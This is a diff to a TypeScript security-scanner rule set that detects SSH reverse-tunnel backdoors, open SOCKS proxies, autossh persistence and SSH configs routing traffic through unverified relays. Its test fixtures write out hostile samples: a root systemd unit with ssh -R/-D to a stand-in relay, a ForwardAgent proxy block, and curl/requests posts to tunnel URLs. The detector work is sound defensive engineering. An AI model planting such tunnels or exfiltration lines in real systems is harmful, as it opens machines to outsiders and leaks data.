@@ -274,9 +274,11 @@ function detectTunnel(file: FileView): RuleMatch[] {
 }
 
 // ssh -R ...:localhost:22 hands the machine's own SSH server to whoever holds the remote end;
-// -D 0.0.0.0:1080 turns it into an open proxy. Lines continued with a backslash count as one.
+// -D 0.0.0.0:1080 turns it into an open proxy. Lines continued with a backslash count as one;
+// autossh keeps the same tunnel up for good, and the remote port may be built from variables. A
+// unit written by a heredoc in a script continues its lines with a doubled backslash.
 const SSH_BACKDOOR_FORWARD =
-  /\bssh\b(?:[^\n\\]|\\\r?\n){0,300}?\s(?:-R\s*(?:[\w.*[\]:-]{0,40}:)?(?:localhost|127\.0\.0\.1|\[::1\]):22\b|-D\s*(?:0\.0\.0\.0|\*|\[::\]):\d{2,5}\b)/g;
+  /\b(?:auto)?ssh\b(?:[^\n\\]|\\{1,2}\r?\n){0,300}?\s(?:-R\s*(?:[\w.*[\]:${}-]{0,40}:)?(?:localhost|127\.0\.0\.1|\[::1\]):22\b|-D\s*(?:0\.0\.0\.0|\*|\[::\]):\d{2,5}\b)/g;
 const PERSISTENT_UNIT = /\.(?:service|timer|socket|plist|desktop)$|(?:^|\/)(?:crontab|cron\.d\/[^/]+)$/i;
 // `Host *` that sends every connection through someone else's host with host keys unchecked.
 const HOST_ALL_BLOCK = /^[ \t]*Host[ \t]+\*[ \t]*$/gm;
@@ -290,7 +292,12 @@ function sshConfigInterception(file: FileView): RuleMatch[] {
     const proxy = /^[ \t]*Proxy(?:Command|Jump)\b[^\n]*?\b[\w.-]+@?((?:[a-z0-9-]+\.)+[a-z]{2,})\b/im.exec(block);
     if (!proxy || /^(?:localhost|bastion|jump)\b/i.test(proxy[1])) continue;
     if (!/^[ \t]*StrictHostKeyChecking[ \t=]+(?:no|off)\b/im.test(block) && !/UserKnownHostsFile[ \t=]+\/dev\/null/i.test(block)) continue;
-    out.push({ index: h.index, length: h[0].length, severity: 'high', message: `Routes every SSH connection through ${proxy[1]} with host keys unchecked` });
+    // With the agent forwarded too, the unverified relay can sign in anywhere with the user's keys.
+    const agent = /^[ \t]*ForwardAgent[ \t=]+yes\b/im.test(block);
+    out.push({
+      index: h.index, length: h[0].length, severity: agent ? 'critical' : 'high',
+      message: `Routes every SSH connection through ${proxy[1]} with host keys unchecked${agent ? ', and forwards the SSH agent to it' : ''}`,
+    });
   }
   return out;
 }
@@ -743,6 +750,7 @@ export const rules: Rule[] = [
       match: [
         { path: 'templates/relay.service', text: '[Service]\nUser=root\nExecStart=/usr/bin/ssh -N -o StrictHostKeyChecking=no \\\n  -R 0:localhost:22 -D 0.0.0.0:1080 relay@tunnel.example-ops.com\n' },
         { path: 'defaults.conf', text: 'Host *\n    ForwardAgent yes\n    StrictHostKeyChecking no\n    ProxyCommand ssh -q -W %h:%p edge@pop.example-accel.net\n' },
+        { path: 'scripts/tunnel.sh', text: 'ExecStart=/usr/bin/autossh -M 0 -N -o ServerAliveInterval=30 \\\n  -R 0.0.0.0:22${RANDOM:0:3}:localhost:22 tunnel@${RELAY}\n' },
         { path: 'config.yaml', text: 'service:\n  base_url: https://a1b2c3.ngrok-free.dev/oauth/callback\n' },
         { path: 'scripts/sync.py', text: 'requests.post("https://quiet-fox.trycloudflare.com/in", data=report)\n' },
         'Post the report with `curl -d @report.json https://quiet-fox-12.trycloudflare.com/in`.',
